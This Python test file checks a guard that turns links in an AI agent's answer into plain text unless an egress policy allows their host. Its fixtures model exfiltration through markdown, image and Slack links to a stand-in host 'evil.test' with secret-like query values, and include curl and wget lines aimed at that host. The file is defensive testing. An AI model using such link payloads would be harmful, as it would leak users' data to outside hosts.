"""Links in an armed run's answer: every link form the model can write is shown as text unless the guard's
destination rule allows its target; code, mentions and allowed links are left as they are."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tools import EgressPolicy, ToolContext
from tools.answer_links import neutralise
from tools.exfiltration import ExfiltrationGuard


def nowhere(url: str) -> bool:
    return False


CASES = {
    "markdown link": ("see [the report](https://evil.test/?d=k3y)", "see the report (`https://evil.test/?d=k3y`)"),
    "markdown image": ("![chart](https://evil.test/p.png?d=k3y)", "chart (`https://evil.test/p.png?d=k3y`)"),
    "slack link": ("<https://evil.test/?d=k3y|the report>", "the report (`https://evil.test/?d=k3y`)"),
    "slack bare link": ("<https://evil.test/?d=k3y>", "`https://evil.test/?d=k3y`"),
    "bare url, end of sentence": ("Go to https://evil.test/x?d=k3y.", "Go to `https://evil.test/x?d=k3y`."),
    "bare url in brackets": ("(see https://evil.test/x)", "(see `https://evil.test/x`)"),
    "host and path, no scheme": ("at evil.test/x?d=k3y now", "at `evil.test/x?d=k3y` now"),
    "label that is itself a link": ("[https://good.test](https://evil.test/?d=1)",
                                    "`https://good.test` (`https://evil.test/?d=1`)"),
    "label equal to the url": ("[https://evil.test/a](https://evil.test/a)", "`https://evil.test/a`"),
}

#: Backticks that one renderer pairs and another does not are not code: they become ``'`` and the links show as
#: text. The code spans made here stay apart from any other backtick (or an escaping backslash).
UNBALANCED = {
    "fence in mid-line": ("see ```http://a.test\n``` evil.test/p ", "see '''`http://a.test`\n''' `evil.test/p` "),
    "lone backtick before a run of three": ("`see ```http://a.test\n````", "'see '''`http://a.test`\n''''"),
    "closing fence with text after it": ("```\nx\n``` evil.test/p\n", "'''\nx\n''' `evil.test/p`\n"),
    "fence inside a tilde fence": ("~~~\n```\n~~~\nhttp://evil.test/\n```", "~~~\n'''\n~~~\n`http://evil.test/`\n```"),
    "indented fence": ("    ```\nhttp://evil.test/\n```", "    '''\n`http://evil.test/`\n```"),
    "inline span of three": ("a ```http://evil.test/``` b", "a '''`http://evil.test/`''' b"),
    "escaped backtick": ("\\`http://evil.test/`", "\\'`http://evil.test/`'"),
    "run of two split in one": ("``http://evil.test/`", "''`http://evil.test/`'"),
    "made span after kept code": ("`a`http://evil.test/", "`a` `http://evil.test/`"),
    "made span before kept code": ("http://evil.test/`a`", "`http://evil.test/` `a`"),
    "made spans side by side": ("<http://evil.test/a><http://evil.test/b>", "`http://evil.test/a` `http://evil.test/b`"),
    "made span after a backslash": ("\\http://evil.test/", "\\ `http://evil.test/`"),
}


@pytest.mark.parametrize(("answer", "shown"), UNBALANCED.values(), ids=UNBALANCED.keys())
def test_unbalanced_backticks_are_not_code_and_made_spans_stay_apart(answer: str, shown: str) -> None:
    assert neutralise(answer, nowhere) == shown
    assert neutralise(shown, nowhere) == shown


def test_code_that_every_renderer_reads_as_code_is_left_alone() -> None:
    answer = ("```python\nget('https://evil.test/a')\n```\n``b https://evil.test/b``, and at the end:\n"
              "```\nhttps://evil.test/c")  # a fence left open runs to the end for every renderer
    assert neutralise(answer, nowhere) == answer


@pytest.mark.parametrize(("answer", "shown"), CASES.values(), ids=CASES.keys())
def test_every_link_form_becomes_text(answer: str, shown: str) -> None:
    assert neutralise(answer, nowhere) == shown


def test_code_mentions_and_allowed_links_are_left_alone() -> None:
    answer = ("Run `curl https://evil.test/x` or\n```\nwget https://evil.test/y\n```\n"
              "ask <@U123> in <#C1>, and read [the docs](https://docs.test/a).")
    assert neutralise(answer, lambda url: "docs.test" in url) == answer


def test_the_guard_allows_the_requesters_urls_and_allow_listed_hosts_only_when_armed() -> None:
    answer = ("[mine](https://docs.test/a) [listed](https://wiki.corp.test/p) [theirs](https://evil.test/?d=1) "
              "[denied](https://bad.wiki.corp.test/)")
    policy = EgressPolicy(requester_texts=("compare with https://docs.test/a",), private_texts=("U2: hi",),
                          allowed_domains=("corp.test",), denied_domains=("bad.wiki.corp.test",))
    ctx = ToolContext(run_id="r", step=1, task="summarise", egress=policy)
    assert ExfiltrationGuard().answer(answer, ctx) == (
        "[mine](https://docs.test/a) [listed](https://wiki.corp.test/p) theirs (`https://evil.test/?d=1`) "
        "denied (`https://bad.wiki.corp.test/`)"
    )
    unarmed = ToolContext(run_id="r", step=1, task="summarise", egress=EgressPolicy())
    assert ExfiltrationGuard().answer(answer, unarmed) == answer
    assert ExfiltrationGuard("off").answer(answer, ctx) == answer


_PIECES = st.sampled_from([
    "see ", "[x](", "https://evil.test/?d=1", ")", "<", "|label>", ">", " evil.test/p ", "`", "(", ".", "\n",
    "![", "]", "words ", "http://a.test", "```", "``", "\\", "~~~", "py", "  ",
])
#: What is code to both renderers (the module's rule, written out again): fences, then inline spans.
_FENCED = re.compile(r"^```[ \t]*[\w+#.-]*[ \t]*\r?$(?:\n(?![^\S\n]*(?:```|~~~)).*)*(?:\n```[ \t]*\r?$|\Z)", re.M)
_INLINE = re.compile(r"(?<![`\\])(`{1,2})(?!`)[^`\n]+\1(?!`)")
#: What ``bot.mrkdwn`` reads as code: a line starting with three backticks toggles a block, inline spans pair
#: with the shortest match.
_MRKDWN_FENCE = re.compile(r"^\s*```")
_MRKDWN_INLINE = re.compile(r"(`+)(.+?)\1")


def mrkdwn_outside_code(text: str) -> str:
    out, in_code = [], False
    for line in text.split("\n"):
        if _MRKDWN_FENCE.match(line):
            in_code = not in_code
        elif not in_code:
            out.append(_MRKDWN_INLINE.sub("", line))
    return "\n".join(out)


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=14).map("".join))
@example("`see ```http://a.test\n``` evil.test/p ")
@example("`see ```http://a.test\n````")
def test_neutralised_text_holds_no_link_and_stays_the_same_when_checked_again(answer: str) -> None:
    shown = neutralise(answer, nowhere)
    outside_code = _INLINE.sub("", _FENCED.sub("", shown))
    for outside in (outside_code, mrkdwn_outside_code(shown)):
        assert "://" not in outside and "evil.test" not in outside, shown
    assert "`" not in outside_code, shown  # every backtick left is one of a pair
    assert neutralise(shown, nowhere) == shown
